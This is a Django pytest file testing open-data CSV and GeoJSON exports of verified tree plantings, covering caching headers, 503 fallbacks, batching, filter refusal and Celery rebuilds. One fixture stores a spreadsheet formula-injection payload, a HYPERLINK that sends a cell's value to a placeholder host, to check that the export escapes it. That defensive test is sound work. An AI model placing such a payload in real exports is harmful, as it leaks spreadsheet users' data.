"""Open data of verified plantings: complete files prebuilt by Celery, or an honest 503; never a partial 200."""

import csv
import io
import json
import time

import pytest
from django.core.files.storage import default_storage
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.http import http_date

from tanam import selectors, services
from tanam.models import Community, OpenDataFile, Planting

from .conftest import queued_tasks

EVIL = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'


@pytest.fixture
def plantings(make_planting, desa):
    from django.contrib.gis.geos import Point

    base = desa.geom.point_on_surface
    community = Community.objects.create(name=EVIL, slug="jahat")
    verified = [
        make_planting(status="verified", tree_count=n, point=Point(base.x + n * 1e-5, base.y, srid=4326))
        for n in range(1, 5)
    ]
    verified[0].community = community
    verified[0].save()
    make_planting(status="pending", tree_count=7)
    make_planting(status="rejected", tree_count=9)
    return verified


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_before_the_first_build_the_download_is_an_honest_503(client, plantings):
    for name in ("tanam:export-csv", "tanam:export-geojson"):
        response = client.get(reverse(name))
        assert response.status_code == 503
        assert int(response["Retry-After"]) > 0
        assert "sedang disiapkan" in response.content.decode()


def test_csv_holds_every_verified_planting_with_length_and_etag(client, plantings):
    services.open_data_build()
    response = client.get(reverse("tanam:export-csv"))
    assert response.status_code == 200
    body = _body(response)
    assert int(response["Content-Length"]) == len(body)
    assert response["ETag"].startswith('"') and response["Last-Modified"]
    assert 'filename="penanaman-terverifikasi.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0][:3] == ["id", "lintang", "bujur"]
    verified_count = Planting.objects.filter(status="verified").count()
    assert len(rows) - 1 == verified_count == 4
    assert sorted(int(r[0]) for r in rows[1:]) == sorted(p.pk for p in plantings)


def test_geojson_parses_and_holds_every_verified_planting(client, plantings):
    services.open_data_build()
    response = client.get(reverse("tanam:export-geojson"))
    assert response.status_code == 200
    body = _body(response)
    assert int(response["Content-Length"]) == len(body)
    data = json.loads(body)
    assert data["type"] == "FeatureCollection"
    assert len(data["features"]) == Planting.objects.filter(status="verified").count() == 4
    trees = sorted(f["properties"]["jumlah_pohon"] for f in data["features"])
    assert trees == [1, 2, 3, 4]
    lon, lat = data["features"][0]["geometry"]["coordinates"]
    assert 111 < lon < 113 and -9 < lat < -7


def test_a_community_named_like_a_formula_is_text_in_the_csv(client, plantings):
    services.open_data_build()
    rows = list(csv.reader(io.StringIO(_body(client.get(reverse("tanam:export-csv"))).decode())))
    komunitas = rows[0].index("komunitas")
    row = next(r for r in rows[1:] if int(r[0]) == plantings[0].pk)
    assert row[komunitas] == "'" + EVIL
    assert not any(cell.startswith("=") for r in rows for cell in r)


def test_unchanged_file_answers_304_to_etag_and_to_date(client, plantings):
    services.open_data_build()
    first = client.get(reverse("tanam:export-csv"))
    etag, modified = first["ETag"], first["Last-Modified"]
    again = client.get(reverse("tanam:export-csv"), headers={"if-none-match": etag})
    assert again.status_code == 304 and again["ETag"] == etag and not again.content
    by_date = client.get(reverse("tanam:export-geojson"), headers={"if-modified-since": http_date(time.time() + 60)})
    assert by_date.status_code == 304
    assert modified


def test_a_rebuild_after_a_change_gives_a_new_etag_and_keeps_one_previous_file(
    client, plantings, alice, django_capture_on_commit_callbacks
):
    services.open_data_build()
    first = client.get(reverse("tanam:export-csv"))["ETag"]
    services.planting_reject(planting=plantings[1], user=alice, reason="Duplikat.")
    for _ in range(2):
        with django_capture_on_commit_callbacks(execute=True):  # old files are removed after commit
            services.open_data_build()
    response = client.get(reverse("tanam:export-csv"), headers={"if-none-match": first})
    assert response.status_code == 200 and response["ETag"] != first
    assert len(list(csv.reader(io.StringIO(_body(response).decode())))) - 1 == 3
    current = OpenDataFile.objects.get(kind="csv")
    assert default_storage.exists(current.name) and default_storage.exists(current.previous_name)
    _dirs, files = default_storage.listdir(services.OPEN_DATA_FOLDER)
    assert len([f for f in files if f.endswith(".csv")]) == 2  # current + previous; older ones removed


def test_an_older_build_never_replaces_a_newer_file(plantings):
    from datetime import timedelta

    services.open_data_build()
    newest = OpenDataFile.objects.get(kind="csv")
    OpenDataFile.objects.filter(pk=newest.pk).update(started_at=newest.started_at + timedelta(hours=1))
    services.open_data_build()  # began reading before the (pretended) newer one
    assert OpenDataFile.objects.get(kind="csv").name == newest.name


def test_rows_come_by_keyset_batches_without_a_server_side_cursor(plantings):
    with CaptureQueriesContext(connection) as queries:
        rows = list(selectors.plantings_export_rows(batch_size=3))
    assert [r[0] for r in rows] == sorted(p.pk for p in plantings)
    assert len(queries) == 2  # 3 rows, then the last 1 (< batch: done)
    assert all("DECLARE" not in q["sql"] and "CURSOR" not in q["sql"].upper() for q in queries)
    assert '"tanam_planting"."id" > ' in queries[1]["sql"]


@pytest.mark.parametrize(
    "params", [{"year": "0"}, {"year": "-1"}, {"year": "99999"}, {"species": "mahoni"}, {"kecamatan": "3"}]
)
@pytest.mark.parametrize("name", ["tanam:export-csv", "tanam:export-geojson"])
def test_filters_are_refused_with_400_in_bahasa(client, plantings, name, params):
    services.open_data_build()
    response = client.get(reverse(name), params)
    assert response.status_code == 400
    text = response.content.decode()
    assert "tidak dapat disaring" in text and "/api/v1/tanam/plantings/" in text


def test_map_page_links_the_complete_files(client, plantings):
    html = client.get(reverse("tanam:map"), {"year": "2020"}).content.decode()
    assert f'href="{reverse("tanam:export-csv")}"' in html
    assert f'href="{reverse("tanam:export-geojson")}"' in html


def test_management_command_builds_both_files(plantings):
    from django.core.management import call_command

    out = io.StringIO()
    call_command("build_open_data", stdout=out)
    assert "csv: 4 rows" in out.getvalue() and "geojson: 4 rows" in out.getvalue()
    assert set(OpenDataFile.objects.values_list("kind", flat=True)) == {"csv", "geojson"}


def test_a_burst_of_verifications_schedules_one_build(make_planting, alice, django_capture_on_commit_callbacks):
    first, second, third = (make_planting(status="pending") for _ in range(3))
    before = queued_tasks("tanam.open_data_build")
    for planting in (first, second):
        with django_capture_on_commit_callbacks(execute=True):
            services.planting_verify(planting=planting, user=alice)
    assert queued_tasks("tanam.open_data_build") == before + 1
    services.open_data_build()  # the build clears the flag before it reads: the next change schedules again
    with django_capture_on_commit_callbacks(execute=True):
        services.planting_verify(planting=third, user=alice)
    assert queued_tasks("tanam.open_data_build") == before + 2


def test_messages_in_english_too(client, plantings):
    client.cookies["django_language"] = "en"
    english = {"HTTP_ACCEPT_LANGUAGE": "en"}
    assert "being prepared" in client.get(reverse("tanam:export-csv"), **english).content.decode()
    refused = client.get(reverse("tanam:export-csv"), {"year": "0"}, **english).content.decode()
    assert "cannot be filtered (year)" in refused


def test_behind_nginx_the_file_is_handed_to_the_proxy(client, plantings, settings):
    settings.OPEN_DATA_ACCEL_REDIRECT_PREFIX = "/_open-data/"
    services.open_data_build()
    response = client.get(reverse("tanam:export-geojson"))
    assert response.status_code == 200 and response.content == b""
    assert response["X-Accel-Redirect"] == "/_open-data/" + OpenDataFile.objects.get(kind="geojson").name
    assert 'filename="penanaman-terverifikasi.geojson"' in response["Content-Disposition"]


def test_a_lost_file_is_an_honest_503_not_a_partial_200(client, plantings):
    services.open_data_build()
    default_storage.delete(OpenDataFile.objects.get(kind="csv").name)
    response = client.get(reverse("tanam:export-csv"))
    assert response.status_code == 503 and response["Retry-After"]
